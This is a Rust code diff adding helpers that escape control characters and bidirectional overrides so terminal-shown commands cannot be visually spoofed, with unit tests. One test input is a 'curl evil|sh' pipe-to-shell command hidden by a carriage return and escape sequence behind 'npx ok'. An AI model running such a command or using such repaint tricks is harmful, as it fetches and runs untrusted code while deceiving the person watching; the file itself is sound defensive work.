@@ -34,3 +34,49 @@ pub fn confirm(question: &str) -> anyhow::Result<bool> {
     std::io::stdin().lock().read_line(&mut answer)?;
     Ok(matches!(answer.trim(), "y" | "Y" | "yes" | "Yes"))
 }
+
+/// `text` as it may be shown at a terminal when it comes from a file someone else wrote: control
+/// characters (a carriage return or an escape sequence could paint a harmless line over the real
+/// one) and the bidirectional overrides that reorder what is shown appear escaped (`\r`,
+/// `\u{1b}`, `\u{202e}`), so what the person reads is what runs.
+pub fn printable(text: &str) -> String {
+    text.chars()
+        .map(|c| {
+            let reorders = matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
+            if c.is_control() || reorders {
+                c.escape_default().to_string()
+            } else {
+                c.to_string()
+            }
+        })
+        .collect()
+}
+
+/// One argument of a command line as shown to a person: [`printable`], quoted when it holds a
+/// space or nothing, so that where one argument ends is plain.
+pub fn printable_arg(arg: &str) -> String {
+    let shown = printable(arg);
+    if shown.is_empty() || shown.contains(char::is_whitespace) || shown.contains('\'') {
+        format!("'{}'", shown.replace('\'', "'\\''"))
+    } else {
+        shown
+    }
+}
+
+#[cfg(test)]
+mod printable_tests {
+    use super::*;
+
+    #[test]
+    fn what_could_repaint_the_line_is_escaped() {
+        assert_eq!(
+            printable("curl evil|sh\r\u{1b}[2K npx ok"),
+            "curl evil|sh\\r\\u{1b}[2K npx ok"
+        );
+        assert_eq!(printable("a\u{202e}b"), "a\\u{202e}b");
+        assert_eq!(printable("naïve — ok"), "naïve — ok");
+        assert_eq!(printable_arg("two words"), "'two words'");
+        assert_eq!(printable_arg(""), "''");
+        assert_eq!(printable_arg("plain"), "plain");
+    }
+}
